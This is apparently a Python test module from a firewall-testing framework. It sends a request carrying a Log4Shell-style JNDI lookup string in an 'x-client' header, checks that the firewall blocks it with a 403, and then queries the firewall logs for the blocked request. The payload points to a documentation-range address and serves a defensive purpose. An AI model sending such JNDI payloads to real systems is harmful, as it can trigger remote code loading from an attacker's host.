"""A request that the firewall blocks, and what the query library tells of it."""

from __future__ import annotations

import uuid

from probes.remote.http import Connection
from stormproof.core.bench import Bench
from stormproof.core.errors import CouldNotLook, Undecidable
from stormproof.core.judges.queries.saved_queries import Expected
from stormproof.core.queries.pages import Log
from stormproof.core.stimuli import Stimulus
from stormproof.stimuli.queries.query_runs import Asked, Caused, ask
from stormproof.stimuli.shared.entry_points import answered
from stormproof.stimuli.shared.log_traces import LONGEST_S
from stormproof.stimuli.shared.observing import control_observing_since
from stormproof.stimuli.shared.propagation import settled
from stormproof.stimuli.shared.workload import health

LOOKUP = {"x-client": "${jndi:ldap://192.0.2.1/a}"}
"""What AWS's rules against known bad inputs are for; it leads nowhere, and without a key nowhere near a function:
https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
"""


def be_blocked(bench: Bench) -> Asked:
    """Attack in the plainest way, with a mark of our own in the query string, then ask the query about it."""
    if observed := control_observing_since(bench, "firewall"):
        raise Undecidable("firewall.observes", f"observing since {observed}: it blocks nothing that could be found")
    since, mark = bench.clock.now(), uuid.uuid4().hex
    path = f"{health(bench).path}?mark={mark}"
    with Connection(bench.endpoint()) as connection:
        seen = answered(bench.send(connection.send, "GET", path, LOOKUP, note="an attack"))
    if seen.status != 403:
        raise CouldNotLook("troubles.not_caused", f"an attack was to be blocked: {seen.status} {seen.body[:200]}")
    return ask(bench, since, (of_block(mark),))


def of_block(mark: str) -> Caused:
    """Return which request was blocked, known by the mark in its query string."""
    expected = Expected({"method": "GET"}, holding={"args": mark})
    return Caused("firewall-blocks", (expected,), arrives=((Log.FIREWALL, mark),))


BLOCKED = Stimulus("a request blocked by the firewall", settled(be_blocked), longest_s=LONGEST_S)
